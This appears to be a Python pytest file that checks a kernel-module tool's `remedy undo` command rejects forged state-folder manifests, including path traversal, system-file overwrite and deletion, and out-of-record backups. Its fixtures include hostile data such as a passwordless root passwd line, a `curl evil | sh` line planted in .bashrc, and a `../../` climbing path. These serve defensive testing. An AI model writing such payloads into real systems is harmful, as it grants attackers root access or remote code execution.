"""`remedy undo` trusts nothing in the state folder: a well-formed manifest written by whoever can
write it must not restore bytes over a system file, delete one, read a backup from outside its
record, or touch a file no remedy could have edited; and every check passes before any file is
touched. The victims are real system paths (`/etc/kmodtui-test-victim-<pid>`, made and removed here;
one per test process, so parallel workers never remove each other's):
the system-file check is on the real paths, so a temp folder dressed up as /etc proves nothing."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

VICTIM = Path(f"/etc/kmodtui-test-victim-{os.getpid()}")
ORIGINAL = b"the administrator's own bytes\n"


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def undo(state: Path, undo_id: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "kmodtui", "remedy", "undo", undo_id], capture_output=True,
                          text=True, env={**os.environ, "KMODTUI_STATE_DIR": str(state)}, timeout=60)


def forge(state: Path, remedy: str, entries: list[dict]) -> str:
    """A well-formed manifest, as apply writes one, with whatever the writer of the state folder wants."""
    undo_id = f"20260101-000000-{remedy}-1"
    record = state / "remedies" / undo_id
    record.mkdir(parents=True)
    files = []
    for index, entry in enumerate(entries):
        backup = entry.get("backup_at") or record / f"{index}.orig"
        if "backup" in entry:
            Path(backup).write_bytes(entry["backup"])
        files.append({"path": str(entry["path"]), "backup": str(backup), "created": entry.get("created", False),
                      "before_sha256": entry["before_sha256"], "after_sha256": entry["after_sha256"]})
    (record / "manifest.json").write_text(json.dumps({"remedy": remedy, "applied": 1.0, "state": "applied",
                                                      "pid": 1, "files": files}))
    return undo_id


@pytest.fixture
def victim() -> Iterator[Path]:
    if os.geteuid() != 0:
        pytest.skip("needs root: the victim is a real file in /etc")
    VICTIM.write_bytes(ORIGINAL)
    try:
        yield VICTIM
    finally:
        VICTIM.unlink(missing_ok=True)


def refused(result: subprocess.CompletedProcess[str], words: str) -> None:
    assert result.returncode == 2, result.stdout + result.stderr
    assert result.stderr.count("\n") == 1 and result.stderr.startswith("kmodtui: ") and words in result.stderr, \
        result.stderr


def test_a_forged_manifest_cannot_restore_bytes_over_a_system_file(victim: Path, tmp_path: Path) -> None:
    """Before: undo wrote the backup's bytes over /etc/kmodtui-test-victim (it only compared digests
    the manifest itself gave)."""
    attacker = b"root::0:0::/root:/bin/sh\n"
    undo_id = forge(tmp_path / "state", "spec-external-depgen", [{
        "path": victim, "backup": attacker, "before_sha256": sha(attacker), "after_sha256": sha(ORIGINAL)}])
    refused(undo(tmp_path / "state", undo_id), "system file")
    assert victim.read_bytes() == ORIGINAL


def test_a_forged_manifest_cannot_delete_a_system_file(victim: Path, tmp_path: Path) -> None:
    """Before: `created: true` made undo unlink /etc/kmodtui-test-victim."""
    undo_id = forge(tmp_path / "state", "hook-install", [{
        "path": victim, "backup": b"", "created": True, "before_sha256": sha(b""), "after_sha256": sha(ORIGINAL)}])
    refused(undo(tmp_path / "state", undo_id), str(victim))
    assert victim.read_bytes() == ORIGINAL


def test_a_hook_manifest_reaching_out_of_the_hook_folder_is_refused(victim: Path, tmp_path: Path) -> None:
    """The hook's undo may delete only a kmodtui hook in a kernel hook folder: a path that climbs out
    of /etc/kernel/postinst.d lands on a system file."""
    climbing = Path(f"/etc/kernel/postinst.d/../../{VICTIM.name}")
    undo_id = forge(tmp_path / "state", "hook-install", [{
        "path": climbing, "backup": b"", "created": True, "before_sha256": sha(b""), "after_sha256": sha(ORIGINAL)}])
    refused(undo(tmp_path / "state", undo_id), "")
    assert victim.read_bytes() == ORIGINAL


def test_a_backup_outside_the_record_is_never_read(tmp_path: Path) -> None:
    """A backup named anywhere (say /etc/shadow) would be copied into a file the user can read."""
    secret = tmp_path / "secret"
    secret.write_bytes(b"not for you\n")
    spec = tmp_path / "p.spec"
    spec.write_bytes(b"Name: p\n%prep\n")
    undo_id = forge(tmp_path / "state", "spec-external-depgen", [{
        "path": spec, "backup_at": secret, "before_sha256": sha(secret.read_bytes()),
        "after_sha256": sha(spec.read_bytes())}])
    refused(undo(tmp_path / "state", undo_id), "backup")
    assert spec.read_bytes() == b"Name: p\n%prep\n"


@pytest.mark.parametrize("remedy", ["spec-external-depgen", "not-a-remedy"])
def test_a_file_the_remedy_could_not_have_edited_is_left_alone(remedy: str, tmp_path: Path) -> None:
    """spec-external-depgen edits a spec, never ~/.bashrc; an unknown remedy edits nothing."""
    rc = tmp_path / ".bashrc"
    rc.write_bytes(b"alias ls='ls --color'\n")
    hostile = b"curl evil | sh\n"
    undo_id = forge(tmp_path / "state", remedy, [{
        "path": rc, "backup": hostile, "before_sha256": sha(hostile), "after_sha256": sha(rc.read_bytes())}])
    refused(undo(tmp_path / "state", undo_id), str(rc))
    assert rc.read_bytes() == b"alias ls='ls --color'\n"


def test_every_check_passes_before_any_file_is_touched(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Two specs edited by one application; the second's backup is damaged. Before: undo restored the
    first, then stopped at the second, leaving a half-undone pair."""
    from kmodtui.core.errors import KmodError
    from kmodtui.core.remedies.edits import FileEdit, apply_edits, remedies_dir
    from kmodtui.core.remedies.edits import undo as undo_in_process

    monkeypatch.setenv("KMODTUI_STATE_DIR", str(tmp_path / "state"))
    specs = [tmp_path / "a.spec", tmp_path / "b.spec"]
    for spec in specs:
        spec.write_bytes(b"Name: x\n%prep\n")
    undo_id = apply_edits("spec-external-depgen", [FileEdit(str(s), s.read_bytes(), b"Name: x\n# edited\n%prep\n")
                                                   for s in specs])
    (Path(remedies_dir()) / undo_id / "1.orig").write_bytes(b"damaged")
    with pytest.raises(KmodError, match="backup"):
        undo_in_process(undo_id)
    assert [s.read_bytes() for s in specs] == [b"Name: x\n# edited\n%prep\n"] * 2


def test_a_forged_hook_install_record_cannot_remove_files_outside_the_modules_folder(
        victim: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """What hook runs installed is recorded in the state folder, and the hook's undo removes it: a
    record naming /etc/kmodtui-test-victim must not make undo delete it."""
    from kmodtui.core.remedies.hookrun import installed_path, uninstall_all

    root = tmp_path / "root"
    (root / "lib" / "modules" / "6.1.0-1-amd64").mkdir(parents=True)
    monkeypatch.setenv("KMODTUI_STATE_DIR", str(tmp_path / "state"))
    record = Path(installed_path(str(root)))
    record.parent.mkdir(parents=True)
    record.write_text(json.dumps({"6.1.0-1-amd64": [{"kind": "file", "path": str(victim)}]}))
    problems = uninstall_all(str(root))
    assert victim.read_bytes() == ORIGINAL
    assert problems and str(victim) in problems[0]
